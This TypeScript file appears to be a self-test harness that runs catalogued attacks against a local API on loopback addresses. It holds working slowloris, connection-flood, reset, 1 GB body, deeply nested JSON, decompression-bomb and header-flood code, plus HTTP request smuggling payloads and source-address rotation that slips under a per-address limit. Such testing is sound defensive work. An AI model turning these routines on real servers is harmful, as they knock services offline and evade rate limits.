// What a hostile client does to the API: each attack runs until it is told to stop, and counts what
// it sent and what it was answered. Addresses of 127/8 stand for different machines.
import { connect as connectPlain, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { brotliCompressSync, gzipSync } from 'node:zlib';

/** Whom to attack. */
export interface Target {
  readonly port: number;
  readonly ca: Buffer;
  /** An `Authorization` header that is right: some attacks are a user's. */
  readonly credentials: string;
  /** Connections that an attack holds at most, of those that need many. */
  readonly connections: number;
}

/** What came of an attack. */
export class Tally {
  opened = 0;
  sentBytes = 0;
  /** Most connections that were open at one time. */
  heldMax = 0;
  readonly answers = new Map<string, number>();
  readonly #open = new Set<Socket>();

  add(socket: Socket): void {
    this.opened += 1;
    this.#open.add(socket);
    this.heldMax = Math.max(this.heldMax, this.#open.size);
  }

  ended(socket: Socket, answer: string): void {
    if (this.#open.delete(socket)) this.#count(answer);
  }

  get held(): number {
    return this.#open.size;
  }

  closeAll(): void {
    for (const socket of this.#open) socket.destroy();
    this.#count('still open at the end', this.#open.size);
    this.#open.clear();
  }

  #count(answer: string, times = 1): void {
    if (times > 0) this.answers.set(answer, (this.answers.get(answer) ?? 0) + times);
  }
}

/** One attack. */
export interface Attack {
  readonly id: string;
  readonly name: string;
  readonly run: (target: Target, tally: Tally, stop: AbortSignal) => Promise<void>;
}

const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/** 512 connections without a login are let in from one address; this stays below it. */
const perAddress = 400;

/** An address of this machine; the first ones are those of honest clients. */
const addressOf = (count: number): string => {
  const at = 10 + Math.floor(count / perAddress);
  return `127.9.${Math.floor(at / 250)}.${(at % 250) + 1}`;
};

interface Opened {
  readonly socket: Socket;
  readonly write: (bytes: string | Buffer) => void;
}

/** A connection; `began` is called when it stands. */
const open = (
  { port, ca }: Target,
  tally: Tally,
  plain: boolean,
  began: (opened: Opened) => void,
  once = false,
): void => {
  const place = { host: '127.0.0.1', port, localAddress: addressOf(tally.opened) };
  const socket = plain ? connectPlain(place) : connectTls({ ...place, ca });
  tally.add(socket);
  let answer = '';
  const end = (how: string): void =>
    tally.ended(socket, /^HTTP\/1\.1 (\d+)/.exec(answer)?.[1] ?? how);
  const write = (bytes: string | Buffer): void => {
    if (!socket.writable) return;
    tally.sentBytes += bytes.length;
    socket.write(bytes);
  };
  socket.once(plain ? 'connect' : 'secureConnect', () => began({ socket, write }));
  socket.on('data', (bytes: Buffer) => {
    if (answer.length < 32) answer += bytes.toString('latin1', 0, 32);
    if (once) socket.destroy();
  });
  socket.on('error', () => socket.destroy());
  socket.on('close', () => end('closed without a word'));
};

/** Keeps `count` connections open, at most `perSecond` new ones, until told to stop. */
const keep = async (
  count: number,
  perSecond: number,
  tally: Tally,
  stop: AbortSignal,
  openOne: () => void,
): Promise<void> => {
  const startedMs = performance.now();
  while (!stop.aborted) {
    const due = ((performance.now() - startedMs) / 1000) * perSecond;
    while (tally.held < count && tally.opened < due) openOne();
    await pause(5);
  }
};

const head = (method: string, path: string, credentials: string): string =>
  `${method} ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n${credentials}`;

const authorized = ({ credentials }: Target): string => `Authorization: ${credentials}\r\n`;

/** Sends the same thing on connection after connection. */
const repeated =
  (
    bytesOf: (target: Target) => readonly (string | Buffer)[],
    connections = 16,
    perSecond = 100,
  ): Attack['run'] =>
  (target, tally, stop) => {
    const all = bytesOf(target);
    return keep(connections, perSecond, tally, stop, () => {
      const bytes = all[tally.opened % all.length] ?? '';
      open(target, tally, false, ({ write }) => write(bytes), true);
    });
  };

/** Says a little again and again. */
const slowly =
  (first: (target: Target) => string, again: string): Attack['run'] =>
  (target, tally, stop) =>
    keep(Math.min(300, target.connections), 100, tally, stop, () => {
      open(target, tally, false, ({ socket, write }) => {
        write(first(target));
        const timer = setInterval(() => write(again), 1000);
        socket.once('close', () => clearInterval(timer));
      });
    });

const post = (target: Target, headers: string, body: string | Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`${head('POST', '/db/execute', authorized(target))}${headers}\r\n`),
    Buffer.from(body),
  ]);

const lengthOf = (body: string | Buffer): string => `Content-Length: ${body.length}\r\n`;

/** A gigabyte in chunks of 64 KiB, as fast as it is taken. */
const hugeBody: Attack['run'] = (target, tally, stop) => {
  const chunk = Buffer.from(`10000\r\n${'x'.repeat(65_536)}\r\n`);
  const gibibyte = 1024 ** 3;
  return keep(4, 20, tally, stop, () => {
    open(target, tally, false, ({ socket, write }) => {
      const announced = tally.opened % 2 === 0;
      const size = announced ? `Content-Length: ${gibibyte}` : 'Transfer-Encoding: chunked';
      write(`${head('POST', '/db/execute', authorized(target))}${size}\r\n\r\n`);
      let left = gibibyte;
      const more = (): void => {
        while (socket.writable && left > 0 && !stop.aborted) {
          left -= chunk.length;
          tally.sentBytes += chunk.length;
          if (!socket.write(chunk)) return;
        }
      };
      socket.on('drain', more);
      more();
    });
  });
};

const slowReading: Attack['run'] = (target, tally, stop) =>
  keep(48, 20, tally, stop, () => {
    open(target, tally, false, ({ socket, write }) => {
      socket.pause();
      const path = '/db/query?q=SELECT+hex(zeroblob(2000000))';
      write(`${head('GET', path, authorized(target))}\r\n`);
    });
  });

const silent =
  (plain: boolean): Attack['run'] =>
  (target, tally, stop) =>
    keep(target.connections, plain ? 4000 : 300, tally, stop, () => {
      open(target, tally, plain, () => undefined);
    });

const resets: Attack['run'] = (target, tally, stop) =>
  keep(64, 300, tally, stop, () => {
    open(target, tally, true, ({ socket, write }) => {
      // The first bytes of a TLS record, so that the server has begun with it.
      write(Buffer.from('160301', 'hex'));
      socket.resetAndDestroy();
    });
  });

const deep = (depth: number): string => '['.repeat(depth) + ']'.repeat(depth);

const shapes = (target: Target): readonly string[] => {
  const sent = head('POST', '/db/execute', authorized(target));
  const chunked = 'Transfer-Encoding: chunked\r\n';
  return [
    `${sent}Content-Length: 5\r\n${chunked}\r\n0\r\n\r\n`,
    `${sent}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n`,
    `${sent}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n`,
    `${sent}Content-Length: 2\r\nContent-Length: 3\r\n\r\n[]]`,
    `${sent}${chunked}\r\nffffffffffffffffff\r\n[]\r\n0\r\n\r\n`,
    `${sent}${chunked}\r\n2;${'x'.repeat(40_000)}\r\n[]\r\n0\r\n\r\n`,
    `${sent}${chunked}\r\n${'1\r\n[\r\n'.repeat(20_000)}0\r\n\r\n`,
    `${sent}${chunked}\r\n2\n[]\n0\n\n`,
    `${head('GET', '/whoami', '')}Content-Length: 60\r\n\r\nGET /status HTTP/1.1\r\nHost: a\r\n\r\n`,
    `GET http://evil/whoami HTTP/1.1\r\nHost: a\r\n\r\n`,
    'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  ];
};

const bombs = (target: Target): readonly Buffer[] => {
  const zeros = Buffer.alloc(256 * 1024 * 1024);
  const gzip = gzipSync(zeros);
  const brotli = brotliCompressSync(zeros.subarray(0, 1024 * 1024));
  return [
    post(target, `Content-Encoding: gzip\r\n${lengthOf(gzip)}`, gzip),
    post(target, `Content-Encoding: br\r\n${lengthOf(brotli)}`, brotli),
    post(target, `Content-Type: application/json\r\n${lengthOf(gzip)}`, gzip),
  ];
};

/** All attacks, each with the rows of the threat list that it stands for. */
export const attacks: readonly Attack[] = [
  { id: 'DOS-01', name: 'TCP that says nothing', run: silent(true) },
  { id: 'DOS-02', name: 'TLS that says nothing', run: silent(false) },
  {
    id: 'DOS-03',
    name: 'slow headers',
    run: slowly(() => head('GET', '/whoami', ''), 'X: y\r\n'),
  },
  {
    id: 'DOS-04',
    name: 'slow body',
    run: slowly(
      (target) => `${head('POST', '/db/execute', authorized(target))}Content-Length: 9999\r\n\r\n`,
      ' ',
    ),
  },
  { id: 'DOS-06', name: 'resets', run: resets },
  {
    id: 'DOS-08',
    name: '10,000 pipelined requests, then garbage',
    run: repeated(
      () => [
        `${head('GET', '/whoami', '')}\r\n`.repeat(10_000),
        `${head('GET', '/whoami', '')}\r\n${'\0\xff{garbage}\r\n'.repeat(1000)}`,
      ],
      8,
      10,
    ),
  },
  { id: 'DOS-09', name: 'large answers that nobody reads', run: slowReading },
  { id: 'BIG-01', name: 'a body of 1 GB', run: hugeBody },
  {
    id: 'BIG-02',
    name: 'JSON 100,000 deep',
    run: repeated((target) => [post(target, lengthOf(deep(100_000)), deep(100_000))]),
  },
  { id: 'BIG-04', name: 'compressed bombs', run: repeated(bombs, 8, 20) },
  {
    id: 'BIG-05',
    name: 'floods of headers',
    run: repeated(() => [
      `${head('GET', '/whoami', '')}X: ${'x'.repeat(1024 * 1024)}\r\n\r\n`,
      `${head('GET', '/whoami', '')}${'X: y\r\n'.repeat(100_000)}\r\n`,
      `GET /${'x'.repeat(1024 * 1024)} HTTP/1.1\r\n\r\n`,
    ]),
  },
  { id: 'SMUG-01', name: 'messages with two readings, tricks of chunks', run: repeated(shapes) },
];
